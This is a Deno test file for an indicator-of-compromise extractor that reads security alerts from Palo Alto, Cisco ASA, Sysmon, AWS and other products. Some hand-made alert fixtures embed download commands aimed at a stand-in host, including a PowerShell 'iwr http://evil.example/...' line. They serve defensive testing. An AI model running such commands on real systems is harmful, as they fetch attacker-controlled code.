/**
 * What products and decoders write that one would not expect. Each case is an
 * alert and what must come of it, or must not.
 *
 * @module
 */
import { assert, assertEquals } from "@std/assert";
import type { Findings } from "../../../lib/alert/find.ts";
import { findIn, findInFile, valuesOf } from "../../stand_ins/alerts.ts";

function find(groups: readonly string[], rest: object): Findings {
  return findIn({ rule: { groups }, ...rest });
}

/** A real alert, what it must give, and what it must never give. */
const REAL: Readonly<
  Record<string, readonly [string, readonly string[], readonly string[]]>
> = {
  "1. pf's decoder shifts the fields of IPv6": [
    "pfsense_block_ipv6",
    ["ipv6 2a00:1450:400f:80d::200e"],
    ["22", "0", "2001:db8::7"],
  ],
  "1. pf's decoder shifts the fields of UDP over IPv6": [
    "pf_v6_udp",
    [],
    ["6"],
  ],
  "2. Snort's address without port loses its end": [
    "snort_fast_v4",
    ["ipv4 185.244.31.158"],
    ["185.244.31"],
  ],
  "2. Snort's IPv6 address with a port is another, valid address": [
    "snort_v6",
    ["ipv6 2a00:1450:400f:80d::200e"],
    ["2001:db8::21:80"],
  ],
  "3. ASA's addresses stand where ports should": [
    "cisco_asa_421001_swapped",
    [],
    ["8.8.8.8", "outside"],
  ],
  "3. ASA's 106100 is not decoded": [
    "asa_106100",
    ["ipv4 185.244.31.158"],
    [],
  ],
  "3. ASA's 733102 is not decoded": ["asa_733102", [
    "ipv4 185.244.31.158",
  ], []],
  "4. NetScreen leaves a port at an address": [
    "juniper_netscreen_login",
    [],
    ["192.168.18.53:41437"],
  ],
  "4. NetScaler leaves a port at an address": [
    "netscaler_tcp_conn",
    ["ipv4 185.244.31.158"],
    ["10.0.0.9:443"],
  ],
  "4. sshd has a host name in srcip": [
    "sshd_host",
    ["domain crawl-66.example.com"],
    [],
  ],
  "4. a test log has no address": ["arbor", [], ["xxx.xxx.xxx.xxx"]],
  "5. Palo Alto quotes what is no URL": [
    "paloalto_threat_wildfire",
    [
      "ipv4 199.195.252.165",
      "sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    ],
    ["invoice.exe", "wildfire.paloaltonetworks.com", "pe"],
  ],
  "5. Palo Alto has ranges and 0.0.0.0": [
    "paloalto_traffic_na",
    ["ipv4 51.11.168.232"],
    ["0.0.0.0", "10.0.0.0-10.255.255.255"],
  ],
  "7. FortiMail keeps quotes": [
    "fortimail_statistics",
    [
      "domain domain.com",
      "domain gmail.com",
      "email noreply@domain.com",
      "email user@gmail.com",
      "ipv4 11.22.33.44",
      "ipv4 12.34.56.78",
    ],
    [],
  ],
  "8. Sophos swallows what follows": [
    "sophos_fw_denied",
    ["ipv4 11.22.33.44", "ipv4 44.33.22.11"],
    ["Signature"],
  ],
  "9. Unbound's url is a name": [
    "unbound_a",
    ["domain morrishittu.ddns.net"],
    [],
  ],
  "9. exim's decoder is named for Windows' dates": [
    "exim_sync_error",
    ["ipv4 134.234.45.34"],
    [],
  ],
  "10. Check Point's origin is the gateway": [
    "checkpoint_smart1_drop",
    ["ipv4 11.22.33.55", "ipv4 11.22.33.77"],
    ["11.22.33.44"],
  ],
  "10. Defender links to Microsoft": [
    "win_defender_1116",
    [
      "domain morrishittu.ddns.net",
      "url http://morrishittu.ddns.net/eicar.zip",
    ],
    ["go.microsoft.com"],
  ],
  "10. Microsoft's portal is no IoC": [
    "msgraph_one_evidence",
    ["ipv4 185.244.31.158"],
    ["security.microsoft.com"],
  ],
  "10. Security Hub links to AWS": ["aws_securityhub", [], [
    "docs.aws.amazon.com",
  ]],
  "11. S3's bucket owner is no hash": [
    "aws_s3_get",
    ["ipv4 213.194.148.169"],
    ["3ab1235e25ea9e94ff9b7e4e379ba6b0c872cd36c096e1ac8cce7df433b47101"],
  ],
  "11. Panda's MUID is no hash, its version no address": [
    "panda_paps_exec",
    ["md5 7e160844d950765356c84bcbcfbf1dee"],
    ["577c98bb9dc2523c1aede584fcaf1615", "71.0.3578.80"],
  ],
  "11. GCP's trace is no hash": ["gcp_lb_warning", [], [
    "68183a7cda548ce0e79207099a1fea58",
  ]],
  "11. a container's id is no hash": ["docker_exec", [], []],
  "11. IMPHASH is no hash of the file": [
    "sysmon_eid1_ini2",
    [
      "md5 0639b0a6f69b3265c1e42227d650b7d1",
      "sha1 545ec11dee642de633eb2c6f6ffc90cce4decf8d",
      "sha256 ce9f70e104c07d92fc05fbd6000839fd6a87ff010e706396f87dd679244ed97b",
    ],
    ["0f71d5f6f4cbb935ce1b09754102419c", "5.812.10240.16384"],
  ],
  "11. Nextcloud's version is no address": ["nextcloud_failed", [], [
    "16.0.5.1",
  ]],
  "12. BIND 9.11 is not decoded": [
    "named_911_denied",
    ["domain somedomain.com", "ipv4 185.244.31.158"],
    [],
  ],
  "12. BIND's unexpected RCODE is not decoded": [
    "named_lame",
    ["domain morrishittu.ddns.net", "ipv4 185.244.31.158"],
    [],
  ],
  "12. Squid's peer stands in the log alone": [
    "squid_connect",
    ["domain morrishittu.ddns.net", "ipv4 185.244.31.158"],
    [],
  ],
  "12. a Referer stands in the log alone": [
    "web_200_referer",
    [
      "domain morrishittu.ddns.net",
      "ipv4 185.244.31.158",
      "url http://morrishittu.ddns.net/lure",
    ],
    [],
  ],
  "12. mail's from and to stand in the log alone": [
    "postfix_relay_554",
    [
      "domain example.org",
      "domain mail.morrishittu.ddns.net",
      "domain morrishittu.ddns.net",
      "email bob@example.org",
      "email evil@morrishittu.ddns.net",
      "ipv4 185.244.31.158",
    ],
    [],
  ],
  "12. Roundcube's client stands in the log alone": [
    "roundcube_failed",
    ["ipv4 185.244.31.158"],
    [],
  ],
  "17. one probe is an object": [
    "aws_guardduty_portprobe",
    ["ipv4 185.244.31.158"],
    ["198.51.100.7", "ec2-198-51-100-7.compute-1.amazonaws.com"],
  ],
  "18. keys with dots are split": [
    "zeek_owlh_files",
    [
      "ipv4 185.244.31.158",
      "md5 44d88612fea8a8f36de82e1278abb02f",
      "sha1 3395856ce81f2b7382dee72602f798b642f14140",
    ],
    ["10.0.0.21", "eicar.com"],
  ],
  "19. lists of objects and of texts": [
    "office365_ti_mail",
    [
      "domain example.org",
      "domain morrishittu.ddns.net",
      "email al@example.org",
      "email bob@example.org",
      "email evil@morrishittu.ddns.net",
      "ipv4 185.244.31.158",
      "sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    ],
    ["1@morrishittu.ddns.net"],
  ],
  "20. tabs in GCP's rdata": [
    "gcp_dns_query",
    ["domain morrishittu.ddns.net", "ipv4 185.244.31.158"],
    [],
  ],
  "22. an IPv4 address in IPv6's form": [
    "dovecot_mapped_v6",
    ["ipv4 1.2.3.4", "ipv4 1.2.3.5"],
    [],
  ],
  "22. a final dot, and IPv6 in other lengths": [
    "aws_seclake_route53",
    [
      "domain s3-r-w.dualstack.us-east-1.amazonaws.com",
      ...[
        "8038:4a81:34d9:53b8",
        "8095:39c1:34d8:fa58",
        "80b4:db08:34d9:6f20",
        "811b:a2e1:34d8:3e1a",
        "816f:9968:34d9:7122",
        "81ab:9269:34d8:29fa",
        "81eb:a321:34d8:de0a",
        "81ef:9d31:34d8:d68a",
      ].map((part) => `ipv6 2600:1fa0:${part}::`),
    ],
    [],
  ],
  "23. a group that is glued to another": [
    "cloudflare_waf_v4",
    ["ipv4 154.127.53.235"],
    ["www.yap.com", "yap.com"],
  ],
  "23. Cisco's IPS has only the group ids": ["cisco_ios_ips", [], [
    "192.168.100.11",
  ]],
  "23. FortiDDoS calls itself fortigate": [
    "fortiddos_attack",
    ["ipv4 12.34.56.79"],
    ["0.0.0.0"],
  ],
  "25. a known malware hash has another group": [
    "syscheck_malware_hash_99901",
    [
      "md5 44d88612fea8a8f36de82e1278abb02f",
      "sha1 3395856ce81f2b7382dee72602f798b642f14140",
      "sha256 2fe6a7ae63c878bd84d7b829349b309e7c84194ddbb6a779816f5b84cd8ad45d",
    ],
    [],
  ],
};

Deno.test("a surprise in a real alert is met", async (t) => {
  for (const [name, [file, values, never]] of Object.entries(REAL)) {
    await t.step(name, async () => {
      const findings = await findInFile(file);
      assert(findings.sources.length > 0, "some source reads it");
      assertEquals(valuesOf(findings).sort(), [...values]);
      const asked = findings.iocs.flatMap(({ spellings }) => spellings);
      for (const text of never) assert(!asked.includes(text), text);
    });
  }
});

/** What no real alert at hand shows. */
const MADE: Readonly<
  Record<string, readonly [Findings, readonly string[]]>
> = {
  "3. ASA's src and dst are names of interfaces": [
    find(["cisco-asa"], { data: { src: "inside", dst: "outside" } }),
    [],
  ],
  "3. AnyConnect's address stands in the log alone": [
    find(["syslog", "cisco", "cisco-asa"], {
      decoder: { name: "cisco-asa" },
      full_log:
        "%ASA-4-722051: Group <VPN> User <bob> IP <185.244.31.158> IPv4 Address <10.0.0.9> assigned to session",
    }),
    ["ipv4 185.244.31.158"],
  ],
  "4. a web server that looks names up has -": [
    find(["web", "accesslog"], {
      data: { srcip: "-", url: "/x" },
      full_log: "- - - [20/Nov/2025:10:15:30 +0000]",
    }),
    [],
  ],
  "5. a URL without scheme, in quotes": [
    find(["paloalto"], {
      data: {
        url_filename: '"evil.example/a,b"',
        destination_port: "443",
      },
    }),
    ["domain evil.example", "url https://evil.example/a,b"],
  ],
  "5. a URL that is cut off keeps the first quote": [
    find(["paloalto"], {
      data: {
        url_filename: '"evil.example/a',
        destination_port: "80",
        severity: "malware",
      },
    }),
    ["domain evil.example", "url http://evil.example/a"],
  ],
  "5. a URL without scheme and port": [
    find(["paloalto"], { data: { url_filename: "evil.example/" } }),
    [
      "domain evil.example",
      "url http://evil.example/",
      "url https://evil.example/",
    ],
  ],
  "6. auditd's directory is a login's address": [
    find(["syslog", "audit"], {
      decoder: { name: "auditd" },
      data: {
        audit: {
          type: "USER_LOGIN",
          directory: { name: "185.244.31.158" },
          exe: '"/usr/sbin/sshd"',
        },
      },
    }),
    ["ipv4 185.244.31.158"],
  ],
  "7. an address in brackets": [
    find(["fortimail"], { data: { client: { name: "[185.244.31.158]" } } }),
    ["ipv4 185.244.31.158"],
  ],
  "9. ClamAV's id is an MD5": [
    find(["clamd", "freshclam", "virus"], {
      data: {
        id: "44d88612fea8a8f36de82e1278abb02f",
        url: "/var/log/savscan.log",
      },
    }),
    ["md5 44d88612fea8a8f36de82e1278abb02f"],
  ],
  "9. Imperva's url is the name of a service": [
    find(["imperva"], {
      data: { srcip: "185.244.31.158", url: "shop.example" },
    }),
    ["ipv4 185.244.31.158"],
  ],
  "9. FireEye writes dstcip": [
    find(["fireeye"], { data: { dstcip: "185.244.31.158" } }),
    ["ipv4 185.244.31.158"],
  ],
  "10. a page on VirusTotal is no IoC, but the hash in it": [
    find(["virustotal"], {
      data: {
        virustotal: {
          permalink: `https://www.virustotal.com/gui/file/${
            "ab".repeat(32)
          }/detection/f-ab`,
        },
      },
    }),
    [`sha256 ${"ab".repeat(32)}`],
  ],
  "11. a browser's version is no address": [
    find(["aws"], {
      data: { aws: { userAgent: "Chrome/91.0.4472.101 Safari" } },
    }),
    [],
  ],
  "11. a service that calls is no domain": [
    find(["aws"], { data: { aws: { sourceIPAddress: "kms.amazonaws.com" } } }),
    [],
  ],
  "12. FTD's fields stand in the log alone": [
    find(["cisco", "cisco-ftd"], {
      decoder: { name: "cisco-ftd" },
      full_log:
        "%FTD-1-430005: SrcIP: 10.0.0.21, DstIP: 185.244.31.158, SrcPort: 1, DstPort: 80, FileName: a.exe, " +
        `FileSHA256: ${
          "ab".repeat(32)
        }, URL: http://evil.example/a.exe, ReferencedHost: www.evil.example`,
    }),
    [
      "domain evil.example",
      "domain www.evil.example",
      "ipv4 185.244.31.158",
      `sha256 ${"ab".repeat(32)}`,
      "url http://evil.example/a.exe",
    ],
  ],
  "12. Huawei's host stands in the log alone": [
    find(["syslog", "huawei_usg"], {
      decoder: { name: "huawei-usg" },
      full_log:
        '%%01URL/4/FILTER(l): (SrcIp=10.0.0.21, DstIp=185.244.31.158, Host="evil.example", Referer="http://lure.example/x", Action=Alert)',
    }),
    [
      "domain evil.example",
      "domain lure.example",
      "ipv4 185.244.31.158",
      "url http://lure.example/x",
    ],
  ],
  "12. Sophos' url stands in the log alone": [
    find(["sophos-fw"], {
      decoder: { name: "sophos-fw" },
      full_log:
        'log_type="Content Filtering" url="http://evil.example/a" domain=evil.example src_ip=10.0.0.21',
    }),
    ["domain evil.example", "url http://evil.example/a"],
  ],
  "17. null is a text, and numbers are cut": [
    find(["amazon_security_lake"], {
      data: {
        src_endpoint: { ip: "62.117.187.171", domain: "null" },
        dst_endpoint: { ip: "null", port: "22" },
      },
    }),
    ["ipv4 62.117.187.171"],
  ],
  "18. a key with a blank, and one with a dash": [
    find(["aws"], {
      data: {
        aws: {
          httpRequest: {
            headers: { "X-Forwarded-For": "185.244.31.158, 10.0.0.1" },
          },
        },
      },
    }),
    ["ipv4 185.244.31.158"],
  ],
  "19. a list of one is the element": [
    find(["office365"], {
      data: { office365: { Recipients: "bob@evil.example" } },
    }),
    ["domain evil.example", "email bob@evil.example"],
  ],
  "20. JSON in a text": [
    find(["azure"], {
      data: {
        HTTPRequest: '{\r\n  "clientIpAddress": "83.49.98.225"\r\n}',
      },
    }),
    ["ipv4 83.49.98.225"],
  ],
  "21. XML's entities in a URL": [
    find(["windows", "powershell"], {
      data: {
        win: {
          eventdata: {
            scriptBlockText: "iwr http://evil.example/a?b=1&amp;c=2 -o x",
          },
        },
      },
    }),
    ["domain evil.example", "url http://evil.example/a?b=1&c=2"],
  ],
  "21. quotes and backslashes are doubled": [
    find(["sysmon_event1"], {
      data: {
        win: {
          eventdata: {
            commandLine:
              '\\"C:\\\\x.exe\\" -u \\"http://evil.example/a\\" -o C:\\\\t',
          },
        },
      },
    }),
    ["domain evil.example", "url http://evil.example/a"],
  ],
  "22. Sysmon's results of a query": [
    find(["sysmon_event_22"], {
      data: {
        win: {
          eventdata: {
            queryResults:
              "type:  5 a.example;type:  5 b.example;::ffff:1.2.3.4;2a00:1450:400f:80d:0:0:0:200e;",
          },
        },
      },
    }),
    [
      "domain a.example",
      "domain b.example",
      "ipv4 1.2.3.4",
      "ipv6 2a00:1450:400f:80d::200e",
    ],
  ],
  "23. a group with a blank before it": [
    find(["windows", " powershell"], {
      data: {
        win: { eventdata: { scriptBlockText: "http://evil.example/a" } },
      },
    }),
    ["domain evil.example", "url http://evil.example/a"],
  ],
  "24. an alert in an alert": [
    find(["ossec", "active_response"], {
      decoder: { name: "ar_log_json" },
      data: {
        parameters: {
          alert: {
            rule: { groups: ["web", "accesslog"] },
            data: { srcip: "185.244.31.158", url: "/x" },
            full_log: '185.244.31.158 "GET /x" 200 "http://lure.example/"',
            parameters: { alert: { data: { srcip: "9.9.9.9" } } },
          },
        },
      },
    }),
    ["domain lure.example", "ipv4 185.244.31.158", "url http://lure.example/"],
  ],
  "25. a child rule's groups replace its parent's": [
    find(["authentication_failed"], {
      decoder: { name: "sshd" },
      data: { srcip: "185.244.31.158" },
    }),
    ["ipv4 185.244.31.158"],
  ],
};

Deno.test("a surprise that no real alert at hand shows is met", async (t) => {
  for (const [name, [findings, values]] of Object.entries(MADE)) {
    await t.step(
      name,
      () => assertEquals(valuesOf(findings).sort(), [...values]),
    );
  }
});

// 13 to 16 are about alerts that never come: there is nothing to read.
